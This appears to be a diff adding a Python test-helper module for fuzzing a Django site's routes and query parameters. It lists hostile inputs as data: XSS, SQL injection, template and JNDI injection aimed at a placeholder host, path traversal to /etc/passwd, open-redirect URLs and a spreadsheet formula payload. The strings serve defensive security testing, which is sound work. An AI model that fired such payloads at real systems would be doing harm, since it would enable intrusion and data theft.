@@ -1,0 +1,123 @@
+"""What an attacker types: texts, numbers, and every address of the site to type them at."""
+
+from collections.abc import Iterator
+from urllib.parse import quote
+
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+
+from terreau.portal.permissions import ROUTES
+
+SCRIPT = '"><script>alert(1)</script>'
+
+#: Percent-encoded, as they travel: some are no UTF-8 at all.
+ENCODED = (
+    *map(
+        quote,
+        (
+            "",
+            " ",
+            "\x00",
+            "a\x00b",
+            "\n\r\n",
+            "\x1b[31m",
+            "\u202e\u2066gnp.exe",
+            "👩‍🌾🏳️‍🌈",
+            "é" * 3000,
+            "ſﬀİıẞ½²Ⅳ٣",
+            "\U000e0041\ufeff\u200b",
+            SCRIPT,
+            "'; DROP TABLE commons_party; --",
+            "1 OR 1=1",
+            '" OR ""="',
+            '"',
+            "'",
+            "%",
+            "_",
+            "\\",
+            "*",
+            "^",
+            "name:épicerie NEAR(a b, 2) AND NOT {x y}: -z + w*",
+            "& | ! :* <-> ( )",
+            "{{ 7*7 }}{% debug %}",
+            "${jndi:ldap://x.invalid/a}",
+            "../../../../etc/passwd",
+            "..\\..\\secret_key",
+            "http://evil.invalid/",
+            "//evil.invalid",
+            "javascript:alert(1)",
+            "=cmd|' /C calc'!A0",
+        ),
+    ),
+    "%ff%fe%80",
+    "%c0%ae%c0%ae%c0%af",
+    "%ed%a0%80",  # a lone surrogate
+    "%f5%80%80%80",
+    "..%2f..%2fsecret_key",
+    "%252e%252e%252f",
+    "%",
+    "%zz",
+)
+NUMBERS = tuple(
+    map(quote, ("-1", "0", "1e309", "NaN", "-inf", "1e-400", "9" * 30, "9" * 5000, "1.5", "0x10", "٣", "²", "1_0"))
+)
+
+#: The parameters that each page reads.
+PARAMETERS = {
+    "observe:directory": (
+        "q", "territoire", "commune", "statut", "activite", "dispositif", "perimetre", "source", "fermees", "tri", "page",
+    ),
+    "observe:map": ("zonage", "indicateur", "page"),
+    "observe:places": ("zonage", "page"),
+    "observe:place": ("page", "communes"),
+    "observe:place_search": ("q",),
+    "observe:nearby": ("q", "commune", "lon", "lat", "km", "page"),
+    "observe:source": ("page",),
+    "observe:tile": ("v",),
+    "observe:boundaries": ("v",),
+    "observe:mask_requests": ("page",),
+    "api:organisations": ("q", "nature", "perimeter", "scheme", "zoning", "place", "after", "limit"),
+    "api:places": ("zoning",),
+    "api:indicators": ("zoning", "indicator"),
+    "people": ("q", "page"),
+    "journal": ("page",),
+    "account_login": ("next",),
+    "account_signup": ("next",),
+}  # fmt: skip
+
+
+def readable_routes() -> list[str]:
+    """The names of the addresses that somebody may read."""
+    return sorted(name for name, access in ROUTES.items() if access.read)
+
+
+def variable_routes() -> Iterator[tuple[str, list[str]]]:
+    """(name, its variable parts) of the addresses that have some."""
+
+    def walk(resolver: URLResolver, namespace: str) -> Iterator[tuple[str, list[str]]]:
+        for one in resolver.url_patterns:
+            if isinstance(one, URLResolver):
+                yield from walk(one, f"{namespace}{one.namespace}:" if one.namespace else namespace)
+            elif isinstance(one, URLPattern) and one.pattern.converters:
+                yield f"{namespace}{one.name}", list(one.pattern.converters)
+
+    return walk(get_resolver(), "")
+
+
+#: What fills the variable parts, in the world of ``tests.factories.world``.
+PARTS = {
+    "change_role": {"pk": 1},
+    "api:organisation": {"public_id": "PARTY"},
+    "observe:dataset": {"name": "organisations"},
+    "observe:dataset_file": {"name": "organisations", "file_format": "csv"},
+    "observe:tile": {"z": 6, "x": 32, "y": 22},
+    "observe:boundaries": {"zoning_code": "commune"},
+    "observe:party": {"public_id": "PARTY"},
+    "observe:mask_request": {"public_id": "PARTY"},
+    "observe:place": {"zoning_code": "commune", "code": "99001"},
+    "observe:source": {"code": "monde"},
+}
+
+
+def address_of(route: str, party: str) -> str:
+    parts = {name: party if value == "PARTY" else value for name, value in PARTS.get(route, {}).items()}
+    return reverse(route, kwargs=parts or None)
